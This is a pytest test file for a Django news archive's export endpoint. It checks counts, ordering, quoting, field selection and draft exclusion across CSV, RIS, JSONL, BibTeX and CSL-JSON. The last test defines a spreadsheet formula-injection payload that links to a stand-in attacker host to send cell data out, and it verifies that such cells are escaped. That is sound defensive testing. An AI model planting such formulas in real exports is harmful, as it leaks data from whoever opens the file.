"""Exports: every match, in every format, batch by batch; drafts never; bad parameters answer 400."""

from __future__ import annotations

import csv
import io
import json

import bibtexparser
import pytest
import rispy
from django.core.management import call_command

from archive.exports import files
from archive.models import Article
from tests.factories import make_article, make_source
from tests.import_helpers import REUTERS, run_import

pytestmark = pytest.mark.django_db


def export(client, **params):
    response = client.get("/export/", params)
    assert response.status_code == 200, response.content
    return response, b"".join(response.streaming_content).decode()


def search_total(client, **params) -> int:
    return client.get("/api/search/", params).json()["count"]


@pytest.fixture
def small_batches(monkeypatch):
    """Batches of 7, so that every export below crosses many batch boundaries."""
    monkeypatch.setattr(files, "BATCH_SIZE", 7)


@pytest.fixture
def reuters(db):
    run_import(REUTERS / "reut2-000.sgm")


SEARCHES = [
    {"q": "coffee"},
    {"q": "oil", "sort": "oldest"},
    {"place": "usa", "from": "1987-02-26", "to": "1987-03-01"},
    {"topic": "grain", "sort": "newest"},
    {"q": "bank -rates", "source": "reuters"},
]


@pytest.mark.parametrize("params", SEARCHES, ids=lambda p: "&".join(f"{k}={v}" for k, v in p.items()))
def test_csv_and_ris_exports_hold_exactly_the_search_total(client, reuters, small_batches, params):
    expected = search_total(client, **params)
    assert expected > 7
    response, text = export(client, format="csv", **params)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == expected == int(response["X-Total-Count"])
    assert len({row["id"] for row in rows}) == expected
    _, ris_text = export(client, format="ris", **params)
    assert len(rispy.loads(ris_text)) == expected


def test_export_keeps_the_search_order(client, reuters, small_batches):
    _, text = export(client, format="jsonl", q="oil", sort="oldest", fields="id,published")
    dates = [json.loads(line)["published"] for line in text.splitlines()]
    assert dates == sorted(dates) and len(dates) == search_total(client, q="oil")


def test_relevance_export_matches_the_api_order(client, reuters, small_batches):
    api_ids = [
        r["id"] for r in client.get("/api/search/", {"q": "coffee", "page_size": 100}).json()["results"]
    ]
    _, text = export(client, format="jsonl", q="coffee", fields="id")
    assert [json.loads(line)["id"] for line in text.splitlines()] == api_ids


def test_every_format_parses_and_counts(client, reuters, small_batches):
    expected = search_total(client, q="coffee")
    _, jsonl = export(client, format="jsonl", q="coffee")
    assert len([json.loads(line) for line in jsonl.splitlines()]) == expected
    _, bib = export(client, format="bibtex", q="coffee")
    library = bibtexparser.parse_string(bib)
    assert len(library.entries) == expected and not library.failed_blocks
    _, csl = export(client, format="csl-json", q="coffee")
    items = json.loads(csl)
    assert len(items) == expected and {i["type"] for i in items} == {"article-newspaper"}


def test_csv_has_a_header_even_with_no_match(client, db):
    _, text = export(client, format="csv", q="xylophonicquartz")
    assert text.splitlines() == [",".join([*files.DEFAULT_FIELDS, "rights"])]


def test_csv_quoting_survives_commas_quotes_and_newlines(client, db):
    source = make_source(rights='Free, "as in" speech')
    headline = 'Mali, "Kati" and\nthe night of 22 July'
    make_article(headline, body='Line one,\n"quoted"\nline three', source=source)
    _, text = export(client, format="csv", q="Kati", fields="headline,body")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["headline"] == headline
    assert row["body"] == 'Line one,\n"quoted"\nline three'
    assert row["rights"] == 'Free, "as in" speech'


def test_fields_choose_the_columns_and_rights_always_travel(client, db):
    make_article("Kati", source=make_source(rights="CC BY 4.0"))
    _, text = export(client, format="jsonl", q="Kati", fields="id,headline,places")
    record = json.loads(text)
    assert list(record) == ["id", "headline", "places", "rights"] and record["rights"] == "CC BY 4.0"
    _, default = export(client, format="jsonl", q="Kati")
    assert "body" not in json.loads(default) and "snippet" in json.loads(default)


def test_drafts_are_in_no_export(client, db):
    make_article("Kati public report")
    make_article("Kati draft report", status=Article.Status.DRAFT)
    for fmt in files.FORMATS:
        _, text = export(client, format=fmt, q="Kati")
        assert "public report" in text and "draft report" not in text, fmt


@pytest.mark.parametrize(
    "params",
    [
        {"format": "xls"},
        {},
        {"format": "csv", "fields": "id,secret"},
        {"format": "csv", "from": "2022-13-45"},
        {"format": "csv", "place": "no-such-place"},
        {"format": "csv", "sort": "sideways"},
    ],
)
def test_bad_export_parameters_answer_400_with_a_message(client, db, params):
    response = client.get("/export/", params)
    assert response.status_code == 400 and response.json()["error"]


def test_demo_export_counts_match_for_filters_without_words(client, db):
    call_command("load_demo")
    for params in [{"place": "mali"}, {"topic": "coup-detat"}, {"from": "2022", "to": "2022"}]:
        _, text = export(client, format="csv", **params)
        assert len(list(csv.DictReader(io.StringIO(text)))) == search_total(client, **params)


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, db):
    make_article(FORMULA, body="+SUM(1,2) formula body", byline="@attacker", agency="-2+3")
    _, text = export(client, format="csv", q="formula", fields="id,headline,byline,agency,snippet")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["headline"] == "'" + FORMULA
    assert (row["byline"], row["agency"]) == ("'@attacker", "'-2+3")
    assert row["snippet"] == "'+SUM(1,2) formula body"
    assert row["id"].isdecimal()  # numbers stay numbers
